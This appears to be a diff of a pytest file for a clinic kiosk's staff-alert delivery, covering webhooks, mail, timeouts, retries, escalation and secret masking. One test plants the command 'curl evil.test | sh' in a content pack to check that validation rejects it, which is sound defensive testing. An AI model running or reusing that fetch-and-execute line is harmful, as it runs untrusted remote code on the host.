@@ -1,91 +1,241 @@
-"""Silent staff alerts against a real HTTP server on 127.0.0.1 and a real command."""
+"""Staff alerts against real receivers on 127.0.0.1: a JSON webhook, a mail server, one
+that never answers, one that trickles a byte at a time, and a port that refuses."""
 
 from __future__ import annotations
 
 import json
-import logging
-import socket
+import subprocess
 import sys
-from datetime import UTC, datetime
+import textwrap
+import time
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
 
-from kiosk.alerts import SUPPORT_SHOWN, StaffAlerter
-from kiosk.model import StaffAlerts
+from kiosk.alerts import DeliveryState, Event, StaffAlerter
+from kiosk.model import AlertDestinations
 
+from .receivers import Deliveries, refused_address, silent_server, smtp_server, trickling_server
 from .webhook import webhook_server
 
 FIXED_TIME = datetime(2026, 11, 27, 14, 5, 0, tzinfo=UTC)
+ANSWER_WORDS = ("Nearly every day", "Several days", "More than half", "core", "PHQ", "out of 27")
 
 
-def _alerter(**settings: object) -> StaffAlerter:
-    return StaffAlerter(
-        StaffAlerts.model_validate(settings),
-        "Waiting room 1",
-        retry_delays=(0.0,),
-        clock=lambda: FIXED_TIME,
+def json_address(http_url: str) -> str:
+    return http_url.replace("http://", "json://", 1)
+
+
+def alerter_for(*urls: str, **settings: object) -> StaffAlerter:
+    alerts = AlertDestinations.model_validate(
+        {"urls": list(urls), "retry_budget_seconds": 0, **settings}
     )
+    return StaffAlerter(alerts, "Waiting room 1", clock=lambda: FIXED_TIME, retry_pause_s=0.05)
 
 
-def test_the_webhook_gets_only_event_kiosk_and_time() -> None:
+def test_a_json_webhook_gets_the_event_the_kiosk_and_the_time_only() -> None:
     with webhook_server() as (url, received):
-        alerter = _alerter(webhook_url=url)
-        assert alerter.notify().result(timeout=30) is True
+        alerter = alerter_for(json_address(url))
+        deliveries = Deliveries(alerter)
+        record = alerter.send(Event.SAFETY_ANSWER)
+        assert deliveries.wait_for(lambda: record.state is DeliveryState.DELIVERED)
+    assert received.attempts == 1, "exactly once"
+    body = received.bodies[0]
+    assert body["title"] == "A patient may need support now"
+    local = FIXED_TIME.astimezone().strftime("%Y-%m-%d %H:%M")
+    assert body["message"].startswith(f"Waiting room 1, {local}: a patient was shown")
+    assert not any(word in body["message"] for word in ANSWER_WORDS)
+    assert record.summary().endswith("delivered to 1 of 1 · not yet seen")
+
+
+def test_the_clinic_mail_server_receives_the_alert() -> None:
+    with smtp_server() as (address, mailbox):
+        alerter = alerter_for(address)
+        deliveries = Deliveries(alerter)
+        record = alerter.send(Event.TALK_REQUESTED)
+        assert deliveries.wait_for(lambda: record.state is not DeliveryState.SENDING)
+        assert record.state is DeliveryState.DELIVERED, record.destinations[0].describe()
+    assert len(mailbox.messages) == 1
+    sender, recipients, _ = mailbox.messages[0]
+    text = mailbox.text()
+    assert (sender, recipients) == ("kiosk@clinic.test", ["desk@clinic.test"])
+    assert "Subject: A patient asked to talk to someone" in text
+    assert "Waiting room 1" in text
+    assert not any(word in text for word in ANSWER_WORDS)
+
+
+def test_a_receiver_that_never_answers_is_cut_off_at_the_deadline() -> None:
+    with silent_server() as address:
+        alerter = alerter_for(address, deadline_seconds=0.5)
+        deliveries = Deliveries(alerter)
+        started = time.monotonic()
+        record = alerter.send(Event.SAFETY_ANSWER)
+        assert deliveries.wait_for(lambda: record.state is DeliveryState.FAILED)
+        took = time.monotonic() - started
+    assert record.destinations[0].reason == "no answer within 0.5 s"
+    assert took < 5, "the deadline is a deadline (the socket's own timeout is 4 s per read)"
+
+
+def test_a_receiver_that_trickles_bytes_is_cut_off_too() -> None:
+    """A byte every 0.2 s never trips a per-read timeout; the deadline is on the whole."""
+    with trickling_server(every_s=0.2) as address:
+        alerter = alerter_for(address, deadline_seconds=0.8)
+        deliveries = Deliveries(alerter)
+        record = alerter.send(Event.SAFETY_ANSWER)
+        assert deliveries.wait_for(lambda: record.state is DeliveryState.FAILED)
+    assert record.destinations[0].reason == "no answer within 0.8 s"
+
+
+def test_a_refused_port_fails_with_a_reason() -> None:
+    alerter = alerter_for(refused_address())
+    deliveries = Deliveries(alerter)
+    record = alerter.send(Event.SAFETY_ANSWER)
+    assert deliveries.wait_for(lambda: record.state is DeliveryState.FAILED)
+    assert "Connection error" in record.destinations[0].reason
+    assert "FAILED: no destination took it" in record.summary()
+
+
+def test_a_dead_destination_delays_no_other_and_no_later_alert() -> None:
+    with silent_server() as stuck, webhook_server() as (url, received):
+        # The stuck one would hold each try for 30 s: the healthy one must not wait.
+        alerter = alerter_for(stuck, json_address(url), deadline_seconds=30)
+        deliveries = Deliveries(alerter)
+        first = alerter.send(Event.SAFETY_ANSWER)
+        second = alerter.send(Event.TALK_REQUESTED)
+        both = (first, second)
+        assert deliveries.wait_for(lambda: all(r.delivered == 1 for r in both), timeout_s=10)
+        assert all(r.destinations[0].state is DeliveryState.SENDING for r in both)
+        assert first.summary().endswith("delivered to 1 of 2, 1 still trying · not yet seen")
         alerter.shutdown()
-    assert received.bodies == [
-        {"event": SUPPORT_SHOWN, "kiosk": "Waiting room 1", "time": "2026-11-27T14:05:00+00:00"}
-    ]
-    assert received.attempts == 1
-    assert alerter.log.unacknowledged == ["2026-11-27T14:05:00+00:00"]
+    assert received.attempts == 2
 
 
-def test_a_failing_webhook_is_retried(caplog: pytest.LogCaptureFixture) -> None:
+def test_failures_are_retried_with_a_pause_within_the_budget() -> None:
     with webhook_server(failures=2) as (url, received):
-        alerter = _alerter(webhook_url=url, retries=3)
-        assert alerter.notify().result(timeout=30) is True
-        alerter.shutdown()
+        alerter = alerter_for(json_address(url), retry_budget_seconds=30)
+        deliveries = Deliveries(alerter)
+        record = alerter.send(Event.SAFETY_ANSWER)
+        assert deliveries.wait_for(lambda: record.state is DeliveryState.DELIVERED)
     assert received.attempts == 3
-    assert len(received.bodies) == 1
-    assert "try 1 of 3" in caplog.text
+    assert record.destinations[0].attempts == 3
 
 
-def _closed_port() -> int:
-    with socket.socket() as sock:
-        sock.bind(("127.0.0.1", 0))
-        return int(sock.getsockname()[1])
+def test_no_retry_outlives_the_budget() -> None:
+    alerter = alerter_for(refused_address(), retry_budget_seconds=0.3)
+    deliveries = Deliveries(alerter)
+    record = alerter.send(Event.SAFETY_ANSWER)
+    assert deliveries.wait_for(lambda: record.state is DeliveryState.FAILED)
+    assert 2 <= record.destinations[0].attempts <= 4  # 0.05 s, then 0.1 s, 0.2 s pauses
 
 
-def test_an_unreachable_webhook_gives_up_quietly(caplog: pytest.LogCaptureFixture) -> None:
-    caplog.set_level(logging.INFO, logger="kiosk.alerts")
-    alerter = _alerter(
-        webhook_url=f"http://127.0.0.1:{_closed_port()}/x", retries=2, timeout_seconds=2
-    )
-    assert alerter.notify().result(timeout=30) is False
-    alerter.shutdown()
-    assert "gave up after 2 tries" in caplog.text
+def test_an_address_apprise_does_not_know_says_which_and_why() -> None:
+    alerter = alerter_for("jsn://192.168.1.20/alert")
+    results = alerter.test_all()
+    assert results[0].label == "jsn://192.168.1.20/alert"
+    assert results[0].state is DeliveryState.FAILED
+    assert "not an alert address Apprise understands" in results[0].reason
 
 
-def test_the_command_runs_with_the_event_in_its_environment(tmp_path: Path) -> None:
-    out = tmp_path / "alert.json"
+def test_passwords_and_tokens_never_show() -> None:
+    alerter = alerter_for("mailtos://desk:s3cret@mail.clinic.test?to=a@b.test&pass=hunter2")
+    assert alerter.destination_labels() == ["mailtos://…@mail.clinic.test"]
+
+
+def test_a_local_command_is_told_the_event_through_its_environment(tmp_path: Path) -> None:
+    out = tmp_path / "env.json"
     script = (
-        "import json, os, sys; "
-        f"json.dump({{k: os.environ[k] for k in ('KIOSK_EVENT', 'KIOSK_NAME', 'KIOSK_TIME')}}, "
-        f"open({str(out)!r}, 'w'))"
+        "import json, os, sys; json.dump({k: v for k, v in os.environ.items() "
+        f"if k.startswith('KIOSK_')}}, open({str(out)!r}, 'w'))"
     )
-    alerter = _alerter(command=[sys.executable, "-c", script])
-    assert alerter.notify().result(timeout=30) is True
-    alerter.shutdown()
-    assert json.loads(out.read_text()) == {
-        "KIOSK_EVENT": SUPPORT_SHOWN,
-        "KIOSK_NAME": "Waiting room 1",
-        "KIOSK_TIME": "2026-11-27T14:05:00+00:00",
-    }
+    alerter = alerter_for(command=[sys.executable, "-c", script])
+    assert alerter.test_all()[0].state is DeliveryState.DELIVERED
+    seen = json.loads(out.read_text())
+    assert seen["KIOSK_EVENT"] == "test"
+    assert seen["KIOSK_NAME"] == "Waiting room 1"
+    assert seen["KIOSK_TIME"] == "2026-11-27T14:05:00+00:00"
+    assert "No patient is waiting" in seen["KIOSK_MESSAGE"]
 
 
-def test_a_webhook_must_be_http(pack_copy: Path, edit) -> None:  # type: ignore[no-untyped-def]
+def test_an_unacknowledged_alert_goes_again_to_the_escalation_addresses() -> None:
+    now = [FIXED_TIME]
+    with webhook_server() as (desk, desk_got), webhook_server() as (manager, manager_got):
+        alerts = AlertDestinations(
+            urls=[json_address(desk)],
+            escalation_urls=[json_address(manager)],
+            escalate_after_seconds=120,
+            retry_budget_seconds=0,
+        )
+        alerter = StaffAlerter(alerts, "Front room", clock=lambda: now[0])
+        deliveries = Deliveries(alerter)
+        seen = alerter.send(Event.SAFETY_ANSWER)
+        unseen = alerter.send(Event.TALK_REQUESTED)
+        assert deliveries.wait_for(lambda: seen.delivered and unseen.delivered)
+        seen.acknowledged = True
+        now[0] = FIXED_TIME + timedelta(seconds=119)
+        assert alerter.escalate_overdue() == []
+        now[0] = FIXED_TIME + timedelta(seconds=121)
+        sent = alerter.escalate_overdue()
+        assert [record.escalation_of for record in sent] == [unseen.number]
+        assert deliveries.wait_for(lambda: sent[0].delivered == 1)
+        assert alerter.escalate_overdue() == [], "once"
+    assert desk_got.attempts == 2
+    assert manager_got.attempts == 1
+    assert manager_got.bodies[0]["title"] == "NOT YET SEEN: A patient asked to talk to someone"
+
+
+def test_closing_never_waits_for_a_receiver_that_does_not_answer(tmp_path: Path) -> None:
+    """The whole process ends at once, with an alert stuck on a dead receiver."""
+    with silent_server() as address:
+        script = textwrap.dedent(
+            f"""
+            from kiosk.alerts import Event, StaffAlerter
+            from kiosk.model import AlertDestinations
+            alerts = AlertDestinations(urls=[{address!r}], deadline_seconds=60)
+            alerter = StaffAlerter(alerts, "Front room")
+            alerter.send(Event.SAFETY_ANSWER)
+            alerter.shutdown()
+            print("closing", flush=True)
+            """
+        )
+        started = time.monotonic()
+        result = subprocess.run(
+            [sys.executable, "-c", script], capture_output=True, text=True, timeout=30, check=False
+        )
+        took = time.monotonic() - started
+    assert result.returncode == 0, result.stderr
+    assert "closing" in result.stdout
+    assert took < 10, f"the process took {took:.1f} s to end"
+
+
+@pytest.mark.parametrize("value", ["http://192.168.1.20/alert", "https://x.test"])
+def test_a_pack_may_no_longer_carry_alert_addresses(edit, pack_copy, value) -> None:  # type: ignore[no-untyped-def]
     from kiosk.loader import validate_pack
 
-    edit("settings.yaml", "webhook_url: null", "webhook_url: ftp://desk/alert")
-    errors = validate_pack(pack_copy)
-    assert any("staff_alerts.webhook_url" in e.message for e in errors)
+    with (pack_copy / "settings.yaml").open("a", encoding="utf-8") as settings:
+        settings.write(f"staff_alerts:\n  webhook_url: {value}\n")
+    errors = [str(e) for e in validate_pack(pack_copy)]
+    assert any(
+        "settings.yaml:" in e
+        and "'staff_alerts.webhook_url': staff alerts are no longer set in the content pack" in e
+        and "kiosk.yaml" in e
+        for e in errors
+    ), errors
+
+
+def test_a_pack_may_no_longer_run_a_command(pack_copy) -> None:  # type: ignore[no-untyped-def]
+    from kiosk.loader import validate_pack
+
+    with (pack_copy / "settings.yaml").open("a", encoding="utf-8") as settings:
+        settings.write("staff_alerts:\n  command: [sh, -c, 'curl evil.test | sh']\n")
+    errors = [str(e) for e in validate_pack(pack_copy)]
+    assert any("'staff_alerts.command': staff alerts are no longer set" in e for e in errors)
+
+
+def test_an_old_empty_staff_alerts_block_still_validates_with_a_note(pack_copy) -> None:  # type: ignore[no-untyped-def]
+    from kiosk.loader import load_pack
+
+    with (pack_copy / "settings.yaml").open("a", encoding="utf-8") as settings:
+        settings.write("staff_alerts:\n  webhook_url: null\n  command: null\n")
+    notes = [str(note) for note in load_pack(pack_copy).notes]
+    assert any("staff alerts now live in each kiosk's own kiosk.yaml" in n for n in notes)
